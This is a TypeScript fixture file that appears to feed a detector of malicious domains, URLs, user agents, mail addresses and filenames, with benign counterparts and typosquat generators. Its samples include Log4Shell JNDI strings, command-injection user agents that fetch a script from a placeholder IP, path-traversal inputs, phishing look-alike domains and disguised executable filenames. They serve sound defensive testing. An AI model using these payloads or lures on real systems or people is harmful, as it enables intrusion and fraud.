import { ordinaryWords } from '../domain/ordinary-words.ts'
import type { CatalogueId } from '../kit/index.ts'

/** An observable that is not a file, as an attack would write it. */
export interface ValueSample {
  readonly dataType: 'domain' | 'url' | 'user-agent' | 'mail' | 'filename'
  readonly data: string
  readonly finding: CatalogueId
}

export interface OrdinaryValue {
  readonly dataType: ValueSample['dataType']
  readonly data: string
}

const of =
  (dataType: ValueSample['dataType']) =>
  (finding: CatalogueId, ...all: string[]): ValueSample[] =>
    all.map((data) => ({ dataType, data, finding }))
const domain = of('domain')
const url = of('url')
const userAgent = of('user-agent')
const mail = of('mail')
const filename = of('filename')

/** Sixty that are imitated, short ones among them. */
export const imitated = (
  'adobe.com amazon.com apple.com binance.com booking.com citibank.com coinbase.com docusign.com dropbox.com ebay.com ' +
  'facebook.com fedex.com github.com google.com instagram.com linkedin.com mastercard.com metamask.io microsoft.com ' +
  'netflix.com openai.com paypal.com roblox.com santander.com spotify.com steamcommunity.com stripe.com telegram.org ' +
  'tiktok.com twitter.com wetransfer.com whatsapp.com yahoo.com kraken.com ledger.com revolut.com slack.com trezor.io ' +
  'vodafone.com chase.com bankofamerica.com wellsfargo.com verizon.com venmo.com barclays.co.uk monzo.com royalmail.com ' +
  'commerzbank.de sparkasse.de telekom.de ameli.fr chronopost.fr labanquepostale.fr laposte.fr orange.fr belfius.be ' +
  'postnl.nl rabobank.nl correos.es unicredit.it'
).split(' ')

/** The label changed after its second letter; its suffix stays. */
const changed = (name: string, change: (label: string) => string) => {
  const dot = name.indexOf('.')
  return change(name.slice(0, dot)) + name.slice(dot)
}

/** Four ways in which names are mistyped or dressed up, of each brand. */
export const lookAlikes = {
  missing: (name: string) =>
    changed(name, (label) => {
      const without = (at: number) => label.slice(0, at) + label.slice(at + 1)
      const last = without(label.length - 2)
      // `revolt` is a word, not a look-alike.
      return ordinaryWords.has(last) ? without(1) : last
    }),
  doubled: (name: string) => changed(name, (label) => label.slice(0, 2) + label.slice(1)),
  swapped: (name: string) =>
    changed(name, (label) =>
      // Two equal letters cannot be swapped.
      label[1] === label[2]
        ? `${label[1]}${label[0]}${label.slice(2)}`
        : `${label[0]}${label[2]}${label[1]}${label.slice(3)}`,
    ),
  dressed: (name: string) => `my${name.slice(0, name.indexOf('.'))}-online.com`,
} as const

/** Numbers that look random and are the same each time. */
function* numbers(seed: number): Generator<number, never> {
  let state = seed
  for (;;) {
    state = (Math.imul(state, 1_103_515_245) + 12_345) >>> 0
    yield state >>> 8
  }
}

const letters = 'abcdefghijklmnopqrstuvwxyz'

/** Alphabet, shortest and longest name of families of malware that compute their names. */
const families: readonly (readonly [alphabet: string, shortest: number, longest: number])[] = [
  [letters.slice(0, 25), 12, 15],
  [letters, 8, 21],
  [letters.slice(0, 25), 8, 19],
  [letters, 8, 25],
  [letters, 12, 12],
  [letters.slice(0, 25), 14, 14],
  [`${letters}0123456789`, 20, 28],
  ['0123456789abcdef', 32, 32],
  ['abcdefghijklmnopqrstuvwxy012345678', 12, 23],
  ['abcdefnolkm', 16, 16],
  [letters, 17, 17],
]

/** As many of each family. */
export const generatedLabels = (count: number): string[] =>
  families.flatMap(([alphabet, shortest, longest], family) => {
    const random = numbers(7_919 * (family + 1))
    return Array.from({ length: count }, () => {
      const length = shortest + (random.next().value % (longest - shortest + 1))
      return Array.from(
        { length },
        () => alphabet[random.next().value % alphabet.length] ?? '',
      ).join('')
    })
  })

const cid = 'bafybeigdyrzt5sfp7udm7hu76uh7y26nf3efuylqabf3oclgtqy55fbzdi'

export const valueSamples = (): ValueSample[] => [
  ...domain('domain.resembles', 'rnicrosoft.com', 'pay-pal.com', 'secure-labanquepostale.net'),
  ...domain('domain.resembles', 'orange-login.com', 'myorange-online.com', 'applelogin.com'),
  ...url(
    'url.backslash',
    'https://paypal.com\\@evil.example/',
    'https://evil.example\\@paypal.com/',
  ),
  ...url('url.normalized-host', 'https://ｐａｙｐａｌ.com/', 'https://ⓔxample-bank.se/'),
  ...url('url.backwards', 'https://files.example.se/%E2%80%AEfdp.exe'),
  ...url('url.file-share', 'file://files.evil.se/share/a.docx', '\\\\files.evil.se\\share\\a.lnk'),
  ...url(
    'url.brand-in-path',
    'https://evil.se/paypal.com/login',
    'https://a.se/x/paypal/signin.php',
  ),
  ...url(
    'url.ipfs-page',
    `https://ipfs.io/ipfs/${cid}/login.html`,
    `https://${cid}.ipfs.dweb.link/`,
  ),
  ...url('url.mail-in-fragment', 'https://a.se/x#joe@corp.se', 'https://a.se/#am9lQGNvcnAuc2U='),
  ...url('url.disguised-address', 'http://[::ffff:203.0.113.5]/'),
  ...url('url.translated', 'https://evil--site-se.translate.goog/login?_x_tr_sl=auto'),
  ...userAgent(
    'user-agent.tool',
    'Fuzz Faster U Fool v2.1.0',
    'commix/v3.8 (https://commixproject.com)',
  ),
  ...userAgent(
    'user-agent.tool',
    'Mozilla/4.0 (Hydra)',
    'Mozilla/5.0 (X11) Havij',
    'WPScan v3.8.25',
  ),
  ...userAgent(
    'user-agent.tool',
    'sqlmap/1.8#stable',
    'Nuclei - Open-source project',
    'Wfuzz/3.1.0',
  ),
  ...userAgent(
    'user-agent.path',
    '..%2f..%2f..%2fetc',
    '/%2e%2e/%2e%2e/windows/win.ini',
    '....//....//',
  ),
  ...userAgent(
    'user-agent.log4shell',
    `\${\${::-j}ndi:ldap://a.example/x}`,
    '%24%7Bjndi:ldap://a.example}',
  ),
  ...userAgent('user-agent.command', 'x; wget http://192.0.2.1/a.sh', '$(curl 192.0.2.1)'),
  ...mail('mail-address.look-alike', 'support@rnicrosoft.com', 'billing@paypa1.com'),
  ...mail('mail-address.free-brand', 'paypal.support@gmail.com', 'micros0ft-support@outlook.com'),
  ...mail('mail-address.disposable', 'joe@mailinator.com', 'x@yopmail.com'),
  ...mail('mail-address.brand', 'paypal-support@kundenpost.se'),
  ...mail('mail-address.scripts', 'аdmin@example.se'),
  ...mail('mail-address.generated', 'a@xjwqkzvtbnpl.com'),
  ...filename('filename.double', 'invoice.pdf.exe', 'photo.jpg.scr', 'Rechnung.docx.js'),
  ...filename('filename.backwards', 'invoice\u202Efdp.exe'),
  ...filename('filename.spaces', `report${' '.repeat(40)}.exe`),
  ...filename('filename.look-alike-letters', 'report.ехе', 'letter.dосx'),
  ...filename('filename.stream', 'notes.txt:run.exe', 'page.asp::$DATA'),
  ...filename('filename.trailing', 'report.exe..', 'update.scr. .'),
  ...filename('filename.lure', 'invoice_4711.exe', 'Rechnung 2024.scr', 'facture.vbs', 'fedex.lnk'),
  ...filename('filename.remote', '\\\\files.evil.se\\share\\a.docx'),
]

const ordinary = (dataType: OrdinaryValue['dataType'], ...all: string[]): OrdinaryValue[] =>
  all.map((data) => ({ dataType, data }))

/** Their benign twins: none of them may be more than noted. */
export const ordinaryValues = (): OrdinaryValue[] => [
  ...ordinary(
    'domain',
    ...(
      'd111111abcdef8.cloudfront.net ec2-203-0-113-25.compute-1.amazonaws.com hdfcbank.com jekyllrb.com apple.com.cn ' +
      'apply.com orangecounty.gov chaise.fr amazon.de orange.es google.co.uk stripes.com chasecenter.com paypal.de ' +
      'my-bucket.s3.eu-west-1.amazonaws.com service-abc123xyz-uc.a.run.app deutschebank.com office-furniture.com ' +
      'lack.de discovery.com finance.com telecom.fr wikipedia.org kernel.org schwarzwald.de rijksoverheid.nl bbc.co.uk'
    ).split(' '),
  ),
  ...ordinary(
    'url',
    'https://www.npmjs.com/package/@types/node',
    'https://mastodon.social/@gargron/1',
    'https://medium.com/@someone/a-story-about-paypal-1a2b3c',
    'https://github.com/microsoft/vscode/issues/1',
    'https://en.wikipedia.org/wiki/PayPal',
    'https://accounts.google.com/o/oauth2/v2/auth?client_id=1&redirect_uri=https%3A%2F%2Fapp.example.se%2Fcb&scope=email',
    'https://login.microsoftonline.com/common/oauth2/authorize?redirect_uri=https://app.example.se/',
    'https://news.example.se/2024/05/a-long-path/with-many/parts/index.html?utm_source=x&utm_medium=mail',
    'https://www.trustpilot.com/review/paypal.com',
    `https://ipfs.io/ipfs/${cid}/1.png`,
    'file://fileserver/share/plan.docx',
    'file:///home/joe/notes.txt',
    'https://mail.google.com/mail/u/0/#search/joe%40corp.se',
    'https://ar.wikipedia.org/wiki/%D8%A7%D9%84%D8%B5%D9%81%D8%AD%D8%A9',
    'https://www-lemonde-fr.translate.goog/international/?_x_tr_sl=fr&_x_tr_tl=en',
    'https://bücher.de/',
  ),
  ...ordinary(
    'user-agent',
    'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36',
    'Mozilla/5.0 (Macintosh; Intel Mac OS X 14_5) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.5 Safari/605.1.15',
    'Mozilla/5.0 (X11; Linux x86_64; rv:127.0) Gecko/20100101 Firefox/127.0',
    'Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 Version/17.5 Mobile/15E148 Safari/604.1',
    'Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)',
    'Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)',
    'curl/8.5.0',
    'Wget/1.21.4',
    'python-requests/2.31.0',
    'okhttp/4.12.0',
    'Debian APT-HTTP/1.3 (2.6.1)',
    'git/2.39.2',
  ),
  ...ordinary(
    'mail',
    ...(
      'jane.doe@gmail.com info@nordwind-tischlerei.com jane+amazon@gmail.com chase.miller@gmail.com john.amazon@gmail.com ' +
      'support@paypal.com no-reply@accounts.google.com service@github.com hans.meier@gmx.de marie@orange.fr ' +
      'newsletter@zalando.de rechnung@stadtwerke-hannover.de sales@hdfcbank.com barclay@gmail.com'
    ).split(' '),
  ),
  ...ordinary(
    'filename',
    ...(
      'setup.exe jquery.min.js archive.tar.gz report.2024.pdf invoice.pdf photo.jpg README main.js InvoiceManagerSetup.exe ' +
      'python-3.12.1-amd64.exe B::Hooks::OP::Check.3pm.gz Резюме.docx libfoo.so.1.2.3 app.config.js index.html.twig ' +
      'password-generator.exe photo.js notes.txt. C:\\Windows\\System32\\notepad.exe \\\\fileserver\\share\\plan.docx'
    ).split(' '),
  ),
]
